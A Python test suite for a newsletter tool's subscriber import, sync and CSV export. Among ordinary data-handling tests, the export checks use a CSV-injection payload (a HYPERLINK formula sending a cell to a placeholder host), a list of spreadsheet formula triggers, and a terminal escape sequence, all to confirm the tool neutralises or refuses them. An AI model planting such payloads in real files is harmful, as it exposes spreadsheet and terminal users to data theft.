"""Imports and syncs against a real store (SQLite and PostgreSQL): counts, merges,
suppressions, and all-or-nothing transactions."""

from __future__ import annotations

import csv
import io
import itertools
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from newsletter.csvio import CsvRow, Entry, parse_subscriber_csv
from newsletter.csvio import chunks as chunks_module
from newsletter.errors import InputError, SubscriberFileError
from newsletter.store import Source, Status, Store
from tests.store.conftest import write_csv

WEEKLY = "email,name,country\nann@example.com,Ann,KZ\nbob@example.org,Bob,GB\ncid@example.com,,FR\n"


def members(store: Store, list_name: str = "weekly", status: Status | None = None) -> list[str]:
    return [
        s.email for batch in store.subscribers.iter_members(list_name, status=status) for s in batch
    ]


def counts(report: object) -> tuple[int, ...]:
    fields = ("added", "updated", "unchanged", "suppressed", "removed", "rejected_count")
    return tuple(getattr(report, name) for name in fields)


def test_first_import_adds_everyone(store: Store, tmp_path: Path) -> None:
    """A first import adds every good row as a subscribed member with its details."""
    report = store.subscribers.import_csv(write_csv(tmp_path / "weekly.csv", WEEKLY), "weekly")
    assert counts(report) == (3, 0, 0, 0, 0, 0)
    assert members(store) == ["ann@example.com", "bob@example.org", "cid@example.com"]
    ann = store.subscribers.get("ANN@example.com")
    assert ann is not None
    assert (ann.name, ann.attributes, ann.status) == ("Ann", {"country": "KZ"}, Status.SUBSCRIBED)
    history = store.subscribers.details("ann@example.com").history
    assert [(h.from_status, h.to_status, h.source) for h in history] == [
        (None, Status.SUBSCRIBED, "import")
    ]


def test_reimport_of_the_same_file_changes_nothing(store: Store, tmp_path: Path) -> None:
    """Importing the same file again reports every row unchanged and touches nothing."""
    path = write_csv(tmp_path / "weekly.csv", WEEKLY)
    store.subscribers.import_csv(path, "weekly")
    before = store.subscribers.get("ann@example.com")
    report = store.subscribers.import_csv(path, "weekly")
    assert counts(report) == (0, 0, 3, 0, 0, 0)
    assert store.subscribers.get("ann@example.com") == before


def test_changed_names_and_attributes_count_as_updated(store: Store, tmp_path: Path) -> None:
    """New names and attribute values update members; other attributes are kept."""
    store.subscribers.import_csv(write_csv(tmp_path / "a.csv", WEEKLY), "weekly")
    changed = "email,name,city\nann@example.com,Ann Smith,\nbob@example.org,,London\n"
    report = store.subscribers.import_csv(write_csv(tmp_path / "b.csv", changed), "weekly")
    assert counts(report) == (0, 2, 0, 0, 0, 0)
    bob = store.subscribers.get("bob@example.org")
    ann = store.subscribers.get("ann@example.com")
    assert bob is not None and ann is not None
    assert (bob.name, bob.attributes) == ("Bob", {"country": "GB", "city": "London"})
    assert (ann.name, ann.attributes) == ("Ann Smith", {"country": "KZ"})


def test_unicode_attributes_reimport_as_unchanged(store: Store, tmp_path: Path) -> None:
    """Non-ASCII and quote-holding attribute values compare equal on re-import."""
    text = 'email,city,note\nann@example.com,Алматы,"say ""hi"" \\ bye"\n'
    path = write_csv(tmp_path / "u.csv", text)
    store.subscribers.import_csv(path, "weekly")
    assert counts(store.subscribers.import_csv(path, "weekly")) == (0, 0, 1, 0, 0, 0)


def test_messy_file_imports_the_good_rows_and_reports_the_bad(store: Store, tmp_path: Path) -> None:
    """BOM, CRLF, case duplicates, bad addresses, extra columns, blank lines, quoted commas."""
    messy = (
        "\ufeffEMAIL,Name,Country\r\n"
        'ann@example.com,"Smith, Ann",KZ\r\n'
        "\r\n"
        "ANN@EXAMPLE.COM,,\r\n"
        "not-an-address,Nobody,XX\r\n"
        "bob@example.org,Bob,GB,extra\r\n"
        "cid@example.com,Cid,FR\r\n"
    )
    report = store.subscribers.import_csv(write_csv(tmp_path / "messy.csv", messy), "weekly")
    assert (report.added, report.duplicates, report.rejected_count) == (2, 1, 2)
    assert [r.line for r in report.rejected] == [5, 6]
    ann = store.subscribers.get("ann@example.com")
    assert ann is not None
    assert (ann.name, ann.attributes) == ("Smith, Ann", {"country": "KZ"})


def test_duplicates_merge_later_values_over_earlier_ones(store: Store, tmp_path: Path) -> None:
    """Rows of one address merge: the last non-empty name wins, attribute columns combine."""
    text = "email,name,a,b\nx@example.com,First,1,\nX@example.com,,,2\nx@EXAMPLE.com,Last,3,\n"
    report = store.subscribers.import_csv(write_csv(tmp_path / "d.csv", text), "weekly")
    assert (report.added, report.duplicates) == (1, 2)
    found = store.subscribers.get("x@example.com")
    assert found is not None
    assert (found.name, found.attributes) == ("Last", {"a": "3", "b": "2"})


def test_duplicates_across_chunks_merge_like_within_one(
    store: Store, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Merging is the same when the duplicates land in different chunks."""
    monkeypatch.setattr(chunks_module, "CHUNK_ROWS", 2)
    rows: list[Entry] = [
        CsvRow(2, "x@example.com", "First", {"a": "1"}),
        CsvRow(3, "y@example.com", None, None),
        CsvRow(4, "z@example.com", None, None),
        CsvRow(5, "x@example.com", "Last", {"b": "2"}),
    ]
    report = store.subscribers.import_entries(iter(rows), "weekly", origin="test")
    found = store.subscribers.get("x@example.com")
    assert found is not None
    assert (report.added, report.duplicates) == (3, 1)
    assert (found.name, found.attributes) == ("Last", {"a": "1", "b": "2"})


@pytest.mark.parametrize("status", [Status.UNSUBSCRIBED, Status.BOUNCED, Status.COMPLAINED])
def test_import_never_resubscribes_a_suppressed_address(
    store: Store, tmp_path: Path, status: Status
) -> None:
    """Unsubscribed, bounced or complained addresses in a file are counted as suppressed."""
    path = write_csv(tmp_path / "weekly.csv", WEEKLY)
    store.subscribers.import_csv(path, "weekly")
    store.subscribers.set_status("bob@example.org", status, reason="test", source=Source.WEBHOOK)
    report = store.subscribers.import_csv(path, "weekly")
    assert counts(report) == (0, 0, 2, 1, 0, 0)
    bob = store.subscribers.get("bob@example.org")
    assert bob is not None and bob.status == status
    assert "bob@example.org" not in members(store, status=Status.SUBSCRIBED)


def test_suppression_of_an_unknown_address_wins_over_a_later_import(
    store: Store, tmp_path: Path
) -> None:
    """An address unsubscribed before it was ever imported is not added by the import."""
    change = store.subscribers.unsubscribe("Bob@Example.org", reason="asked by phone")
    assert (change.before, change.after) == (None, Status.UNSUBSCRIBED)
    report = store.subscribers.import_csv(write_csv(tmp_path / "weekly.csv", WEEKLY), "weekly")
    assert (report.added, report.suppressed) == (2, 1)
    assert "bob@example.org" not in members(store)


def test_only_resubscribe_brings_a_suppressed_address_back(store: Store, tmp_path: Path) -> None:
    """resubscribe is the way back, recorded in history; then imports treat it as usual."""
    path = write_csv(tmp_path / "weekly.csv", WEEKLY)
    store.subscribers.import_csv(path, "weekly")
    store.subscribers.unsubscribe("bob@example.org", reason="asked")
    store.subscribers.import_csv(path, "weekly")
    change = store.subscribers.resubscribe("bob@example.org", reason="asked to come back")
    assert (change.before, change.after) == (Status.UNSUBSCRIBED, Status.SUBSCRIBED)
    history = store.subscribers.details("bob@example.org").history
    assert [(h.from_status, h.to_status, h.reason) for h in history][1:] == [
        (Status.SUBSCRIBED, Status.UNSUBSCRIBED, "asked"),
        (Status.UNSUBSCRIBED, Status.SUBSCRIBED, "asked to come back"),
    ]
    assert counts(store.subscribers.import_csv(path, "weekly")) == (0, 0, 3, 0, 0, 0)


def test_a_member_removed_from_a_list_rejoins_on_import(store: Store, tmp_path: Path) -> None:
    """An address taken off a list and back in the file is added again."""
    path = write_csv(tmp_path / "weekly.csv", WEEKLY)
    store.subscribers.import_csv(path, "weekly")
    store.subscribers.remove("ann@example.com", "weekly")
    assert counts(store.subscribers.import_csv(path, "weekly")) == (1, 0, 2, 0, 0, 0)
    assert "ann@example.com" in members(store)


def test_a_subscriber_of_another_list_is_added_not_duplicated(store: Store, tmp_path: Path) -> None:
    """One subscriber on two lists: the second import adds a membership, not a subscriber."""
    path = write_csv(tmp_path / "weekly.csv", WEEKLY)
    store.subscribers.import_csv(path, "weekly")
    report = store.subscribers.import_csv(path, "editors")
    assert report.added == 3
    assert store.subscribers.status_counts()[Status.SUBSCRIBED] == 3


class Interrupt(KeyboardInterrupt):
    """A Ctrl-C raised from inside the rows, mid-import."""


def rows_then(error: BaseException, count: int = 5) -> Iterator[Entry]:
    for n in range(count):
        yield CsvRow(n + 2, f"new{n}@example.com", None, None)
    raise error


@pytest.mark.parametrize("error", [Interrupt(), RuntimeError("disk on fire")])
def test_an_interrupted_import_leaves_the_store_as_it_was(
    store: Store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, error: BaseException
) -> None:
    """A Ctrl-C or an exception midway through the rows rolls the whole import back."""
    store.subscribers.import_csv(write_csv(tmp_path / "weekly.csv", WEEKLY), "weekly")
    monkeypatch.setattr(chunks_module, "CHUNK_ROWS", 2)  # some chunks are written first
    with pytest.raises(type(error)):
        store.subscribers.import_entries(rows_then(error), "weekly", origin="test")
    assert members(store) == ["ann@example.com", "bob@example.org", "cid@example.com"]
    assert store.subscribers.get("new0@example.com") is None
    # and the store is usable afterwards: the staging table went with the rollback
    assert store.subscribers.import_entries(iter([]), "weekly", origin="t").unchanged == 0


def test_a_file_that_turns_out_not_utf8_changes_nothing(store: Store, tmp_path: Path) -> None:
    """A bad byte on the last line fails the import after the good rows: nothing is kept."""
    data = ("email\n" + "".join(f"u{n}@example.com\n" for n in range(50))).encode() + b"\xff\n"
    path = tmp_path / "bad.csv"
    path.write_bytes(data)
    with pytest.raises(SubscriberFileError, match="not UTF-8 text \\(line 52"):
        store.subscribers.import_csv(path, "weekly")
    assert members(store) == []
    assert store.subscribers.status_counts()[Status.SUBSCRIBED] == 0


def test_sync_adds_new_and_removes_missing_members(store: Store, tmp_path: Path) -> None:
    """A sync makes the list match the file; suppressed addresses stay suppressed."""
    path = write_csv(tmp_path / "weekly.csv", WEEKLY)
    store.subscribers.import_csv(path, "weekly")
    store.subscribers.unsubscribe("cid@example.com")
    write_csv(path, "email\nann@example.com\ncid@example.com\ndan@example.com\n")
    (report,) = store.subscribers.sync_files({"weekly": path})
    assert counts(report) == (1, 0, 1, 1, 1, 0)
    assert members(store) == ["ann@example.com", "cid@example.com", "dan@example.com"]
    assert members(store, status=Status.SUBSCRIBED) == ["ann@example.com", "dan@example.com"]
    bob = store.subscribers.details("bob@example.org")
    assert bob.subscriber.status == Status.SUBSCRIBED  # left the list, not unsubscribed
    assert bob.memberships[0].removed_at is not None


def test_sync_dry_run_reports_and_changes_nothing(store: Store, tmp_path: Path) -> None:
    """--dry-run gives the same counts as a real sync and leaves the store untouched."""
    path = write_csv(tmp_path / "weekly.csv", WEEKLY)
    store.subscribers.import_csv(path, "weekly")
    write_csv(path, "email\nann@example.com\ndan@example.com\n")
    (dry,) = store.subscribers.sync_files({"weekly": path}, dry_run=True)
    assert dry.dry_run and counts(dry) == (1, 0, 1, 0, 2, 0)
    assert members(store) == ["ann@example.com", "bob@example.org", "cid@example.com"]
    (real,) = store.subscribers.sync_files({"weekly": path})
    assert counts(real) == counts(dry)


def test_sync_of_several_lists_is_one_transaction(store: Store, tmp_path: Path) -> None:
    """If one list's file is bad, no list changes."""
    good = write_csv(tmp_path / "weekly.csv", WEEKLY)
    bad = write_csv(tmp_path / "editors.csv", "name\nAnn\n")
    with pytest.raises(SubscriberFileError, match="no 'email' column"):
        store.subscribers.sync_files({"weekly": good, "editors": bad})
    assert members(store) == []


def test_the_background_reader_gives_the_same_result(
    store: Store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A file read in the second process (in chunks it checks and chunks it leaves to
    the importer) gives the same rows and rejections as one read in-process."""
    monkeypatch.setattr(chunks_module, "CHUNK_ROWS", 50)
    lines = ["email,name,n"] + [f"user{n}@example.com,User {n},{n % 7}" for n in range(300)]
    lines += ["bad-address,X,1", "USER5@example.com,,", ""]
    path = write_csv(tmp_path / "big.csv", "\n".join(lines))
    chunks = list(chunks_module.file_chunks(path, background=True))
    local = list(chunks_module.file_chunks(path, background=False))
    assert len(chunks) == len(local) == 7
    assert [c.rows for c in chunks] == [c.rows for c in local]
    assert [r for c in chunks for r in c.rejections] == [r for c in local for r in c.rejections]
    report = store.subscribers.import_csv(path, "weekly")  # 300 rows: read in-process by default
    assert (report.added, report.duplicates, report.rejected_count) == (300, 1, 1)


def test_the_background_reader_reports_file_errors_in_words(tmp_path: Path) -> None:
    """A bad file read in the second process raises the same SubscriberFileError."""
    path = tmp_path / "bad.csv"
    path.write_bytes(b"email\nann@example.com\n\xff\n")
    with pytest.raises(SubscriberFileError, match="not UTF-8 text \\(line 3"):
        list(chunks_module.file_chunks(path, background=True))


_lists = itertools.count()


@settings(
    max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    st.lists(
        st.tuples(
            st.from_regex(r"[a-z][a-z0-9._+-]{0,10}[a-z0-9]", fullmatch=True),
            st.sampled_from(["example.com", "example.org", "mail.example.com"]),
            st.lists(st.booleans(), min_size=1, max_size=3),
        ),
        max_size=12,
    )
)
def test_case_variants_never_create_duplicate_subscribers(
    sqlite_store: Store, addresses: list[tuple[str, str, list[bool]]]
) -> None:
    """Any addresses, each in any mix of cases: one subscriber and one membership each."""
    lines = ["email"]
    for local, domain, variants in addresses:
        address = f"{local}@{domain}".replace("..", ".")
        lines += [address.upper() if upper else address for upper in variants]
    rows = list(parse_subscriber_csv("\n".join(lines).encode().splitlines(True), "p.csv"))
    list_name = f"prop{next(_lists)}"
    before = sum(sqlite_store.subscribers.status_counts().values())
    report = sqlite_store.subscribers.import_entries(rows, list_name, origin="property")
    assert all(isinstance(row, CsvRow) for row in rows)
    distinct = {row.email for row in rows if isinstance(row, CsvRow)}
    assert len(distinct) == len({line.lower() for line in lines[1:]})
    assert report.added + report.unchanged == len(distinct)
    assert report.duplicates == len(rows) - len(distinct)
    found = members(sqlite_store, list_name)
    assert sorted(found) == sorted(distinct) and len(set(found)) == len(found)
    assert sum(sqlite_store.subscribers.status_counts().values()) - before <= len(distinct)


# OWASP's CSV-injection triggers: a spreadsheet evaluates a cell that begins with one.
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_cells = (
    st.text(
        alphabet=st.sampled_from(["=", "+", "-", "@", "'", "a", "Б", " ", ",", '"', "(", "1"]),
        min_size=1,
        max_size=8,
    )
    .map(str.strip)
    .filter(bool)
)


def test_export_neutralises_cells_a_spreadsheet_would_evaluate(store: Store) -> None:
    """Every exported cell that starts with = + - @ (OWASP's rule) gets a leading ',
    a name that starts with ' and then one of those gets one more, and nothing else
    changes; the header is neutralised the same way."""
    store.subscribers.add("-ann@example.com", "weekly", name='=HYPERLINK("http://x/?"&A2,"click")')
    store.subscribers.add("bob@example.com", "weekly", name="'+7 700", attributes={"city": "@home"})
    store.subscribers.add(
        "cid@example.com", "weekly", name="O'Brien", attributes={"city": "Astana"}
    )
    out = io.StringIO()
    store.subscribers.export_csv("weekly", out, status=None)
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows == [
        ["email", "name", "city"],
        ["'-ann@example.com", '\'=HYPERLINK("http://x/?"&A2,"click")', ""],
        ["bob@example.com", "''+7 700", "'@home"],
        ["cid@example.com", "O'Brien", "Astana"],
    ]
    for cell in (cell for row in rows for cell in row):
        assert not cell.startswith(TRIGGERS)


@settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(st.lists(st.tuples(_cells, _cells), min_size=1, max_size=6))
def test_export_then_import_round_trips_every_name_and_attribute_exactly(
    sqlite_store: Store, people: list[tuple[str, str]]
) -> None:
    """Names and attribute values made of trigger characters, quotes and commas (also
    names that genuinely begin with ' and a trigger) come back from export → import
    exactly as they were stored."""
    list_name = f"prop{next(_lists)}"
    stored = {}
    for number, (name, note) in enumerate(people):
        email = f"p{number}@example.com"
        sqlite_store.subscribers.add(email, list_name, name=name, attributes={"note": note})
        stored[email] = (name, {"note": note})
    out = io.StringIO()
    sqlite_store.subscribers.export_csv(list_name, out, status=None)
    rows = list(parse_subscriber_csv(out.getvalue().encode().splitlines(True), "export.csv"))
    assert {
        row.email: (row.name, row.attributes) for row in rows if isinstance(row, CsvRow)
    } == stored
    again = sqlite_store.subscribers.import_entries(rows, list_name, origin="export.csv")
    assert (again.added, again.updated, again.rejected_count) == (0, 0, 0)


@settings(
    max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(st.dictionaries(_cells, _cells, min_size=1, max_size=4))
def test_export_then_import_round_trips_attribute_names_too(
    sqlite_store: Store, attributes: dict[str, str]
) -> None:
    """Attribute names are export's header cells: names made of trigger characters,
    quotes and commas come back from export → import exactly as `add` stored them
    (trimmed and lower-cased, as an import's header is)."""
    list_name = f"keys{next(_lists)}"
    sqlite_store.subscribers.add("k@example.com", list_name, attributes=attributes)
    stored = sqlite_store.subscribers.get("k@example.com")
    assert stored is not None
    out = io.StringIO()
    sqlite_store.subscribers.export_csv(list_name, out, status=None)
    (row,) = parse_subscriber_csv(out.getvalue().encode().splitlines(True), "export.csv")
    assert isinstance(row, CsvRow) and row.attributes == stored.attributes


@pytest.mark.parametrize(
    ("key", "problem"),
    [
        ("email", "'email' is a column of its own"),
        (" Name ", "'name' is a column of its own"),
        ("k\x1b]0;pwn\x07", "contains a control character (U+001B)"),
        ("k\u2028x", "contains a control character (U+2028)"),
        ("  ", "an attribute needs a name"),
    ],
)
def test_add_refuses_an_attribute_name_that_export_could_not_write_back(
    store: Store, key: str, problem: str
) -> None:
    """An attribute named `email` or `name` would be a second such column in the export
    (which import then refuses), and a control character in a name would reach the
    terminal through `export`: `add` refuses both, storing nothing."""
    with pytest.raises(InputError) as caught:
        store.subscribers.add("k@example.com", "weekly", attributes={key: "1"})
    assert problem in caught.value.message
    assert store.subscribers.get("k@example.com") is None


def test_import_refuses_a_header_name_with_a_control_character(tmp_path: Path) -> None:
    """A column name becomes an attribute name: an escape sequence in it is refused with
    the column's position, like one in a value."""
    path = tmp_path / "list.csv"
    path.write_bytes(b'email,"k\x1b[31mred"\na@example.com,1\n')
    with pytest.raises(SubscriberFileError) as caught:
        list(parse_subscriber_csv(path.read_bytes().splitlines(True), "list.csv"))
    assert caught.value.message == (
        "list.csv: column 2's name contains a control character (U+001B); "
        "expected one line of plain text"
    )
